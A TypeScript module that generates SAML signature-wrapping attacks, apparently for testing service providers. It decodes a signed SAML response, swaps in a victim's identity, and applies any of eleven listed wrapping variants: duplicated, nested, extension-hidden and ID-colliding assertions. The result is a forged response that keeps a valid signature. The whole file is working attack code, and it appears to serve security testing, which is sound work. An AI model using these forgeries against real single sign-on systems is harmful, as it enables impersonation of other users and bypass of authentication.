import { decode, encode, newXmlId } from "./saml-provider.ts";

/**
 * Signature wrapping, after Somorovsky et al., "On Breaking SAML" (2012): the signed assertion about one person is
 * kept in the document, so that its signature is valid, and another one about the victim is placed where a careless
 * reader looks.
 */
export type Wrapping = (parts: Parts) => string;

interface Parts {
  readonly xml: string;
  /** The signed assertion, its signature, and the assertion without the signature. */
  readonly signed: string;
  readonly signature: string;
  readonly bare: string;
  /** The same assertion about the victim, with another id and without a signature. */
  readonly evil: string;
  /** As `evil`, with the id of the signed one. */
  readonly twin: string;
}

export function wrap(
  base64: string,
  wrapping: Wrapping,
  victim: readonly [string, string],
): string {
  const xml = decode(base64);
  const signed = part(xml, /<saml:Assertion .*<\/saml:Assertion>/s);
  const signature = part(signed, /<ds:Signature .*<\/ds:Signature>/s);
  const bare = signed.replace(signature, "");
  const twin = bare.replaceAll(victim[0], victim[1]);
  const evil = twin.replace(/ ID="[^"]+"/, ` ID="${newXmlId()}"`);
  return encode(wrapping({ xml, signed, signature, bare, evil, twin }));
}

export const WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  "the victim's assertion before the signed one": ({ xml, signed, evil }) =>
    xml.replace(signed, evil + signed),
  "the victim's assertion after the signed one": ({ xml, signed, evil }) =>
    xml.replace(signed, signed + evil),
  "the signed one inside of the victim's": ({ xml, signed, evil }) =>
    xml.replace(signed, evil.replace("</saml:Assertion>", `${signed}</saml:Assertion>`)),
  "the victim's with the signature, the signed one after it": ({ xml, signed, evil, ...parts }) =>
    xml.replace(signed, signedBy(evil, parts.signature) + parts.bare),
  "the signed one inside of the victim's copy of the signature": ({
    xml,
    signed,
    evil,
    ...parts
  }) => xml.replace(signed, signedBy(evil, within(parts.signature, parts.bare))),
  "the signed one in an object of the victim's signature": ({ xml, signed, evil, ...parts }) =>
    xml.replace(
      signed,
      signedBy(evil, within(parts.signature, `<ds:Object>${signed}</ds:Object>`)),
    ),
  "the victim's in an extension, with the signed one's id": ({ xml, signed, twin }) =>
    xml.replace(signed, `<samlp:Extensions>${twin}</samlp:Extensions>${signed}`),
  "the signed one in an extension, the victim's in its place": ({ xml, signed, evil }) =>
    xml.replace(signed, `<samlp:Extensions>${signed}</samlp:Extensions>${evil}`),
  "the victim's in its place, signed by the extension's signature": ({
    xml,
    signed,
    twin,
    ...parts
  }) =>
    xml.replace(
      signed,
      `<samlp:Extensions>${parts.bare}</samlp:Extensions>${signedBy(twin, parts.signature)}`,
    ),
  "a whole response around the signed response": ({ xml, signed, evil }) =>
    xml.replace(signed, `${evil}<samlp:Extensions>${xml}</samlp:Extensions>`),
  "the address changed after the signature": ({ xml, signed, twin, signature }) =>
    xml.replace(signed, signedBy(twin, signature)),
};

/** The signature goes right after the issuer. */
function signedBy(assertion: string, signature: string): string {
  return assertion.replace("</saml:Issuer>", `</saml:Issuer>${signature}`);
}

function within(signature: string, content: string): string {
  return signature.replace("</ds:Signature>", `${content}</ds:Signature>`);
}

function part(text: string, pattern: RegExp): string {
  const found = pattern.exec(text)?.[0];
  if (found === undefined) throw new Error(`The response has no ${pattern.source}`);
  return found;
}
